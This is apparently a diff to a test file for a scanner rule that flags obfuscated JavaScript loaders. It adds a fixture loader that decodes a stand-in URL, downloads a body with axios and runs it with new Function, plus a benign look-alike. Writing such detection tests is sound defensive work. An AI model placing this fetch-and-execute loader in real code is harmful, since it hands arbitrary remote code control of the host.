@@ -10,6 +10,15 @@ const obf = [
   "const _0x2f3a01=require(_0x4e7a(0x0)),_0x2f3a02=_0x4e7a(0x1),_0x2f3a03=_0x4e7a(0x2),_0x2f3a04=_0x4e7a(0x3);console[_0x4e7a(0x5)](_0x2f3a02,_0x2f3a03,_0x2f3a04);",
 ].join('');
 
+// The pre-2.0 javascript-obfuscator shape (var accessor `a=a-0x0`, `while(--n)` rotation), written for this test: a
+// route that downloads a body and runs it with new Function.
+const oldArr = "const _0x3f1a=['aHR0cHM6Ly9','hcGkuZXhhbXBsZS5pbnZhbGlkL3Yx','L2NmZw==','get','then','data','base64','toString','from'];";
+const oldRot = "(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3f1a,0x9));";
+const oldAcc = "const _0x4e2c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;return _0x3f1a[_0x2d8f05];};";
+const oldLoader = `${oldArr}${oldRot}${oldAcc}const _0x5a=require('axios');const _0x1b=Buffer[_0x4e2c('0x8')](_0x4e2c('0x0')+_0x4e2c('0x1')+_0x4e2c('0x2'),_0x4e2c('0x6'))[_0x4e2c('0x7')]();_0x5a[_0x4e2c('0x3')](_0x1b)[_0x4e2c('0x4')](_0x9c=>{(new Function('r',_0x9c[_0x4e2c('0x5')]))(require);});`;
+// The same shape whose only Function call is obfuscator.io's constant global-object helper, and no network.
+const oldHelper = `${oldArr}${oldRot}${oldAcc}const _0x5b=require('fs');const _0x6c=Function('return (function() '+'{}.constructor("return this")( )'+');')();_0x5b[_0x4e2c('0x5')]=_0x6c;`;
+
 ruleTest(rule, {
   clean: [
     {
@@ -26,6 +35,18 @@ ruleTest(rule, {
       file: 'tailwind.config.js',
       code: `module.exports = { content: [] };\n${obf}\n`,
       findings: [{ line: 2, confidence: 'high', message: /string-array rotation loop, self-replacing string accessor/ }],
+    },
+    {
+      name: 'pre-2.0 obfuscator.io route that runs a downloaded body with new Function (critical)',
+      file: 'server/routes/payment.js',
+      code: `${oldLoader}\n`,
+      findings: [{ line: 1, severity: 'critical', confidence: 'high', message: /string-array rotation loop, self-replacing string accessor.*runs built or received code with new Function/ }],
+    },
+    {
+      name: 'same shape, only the constant global-object Function helper and no network: high, not a loader',
+      file: 'lib/licence.js',
+      code: `${oldHelper}\n`,
+      findings: [{ line: 1, severity: 'high', confidence: 'high' }],
     },
   ],
 });
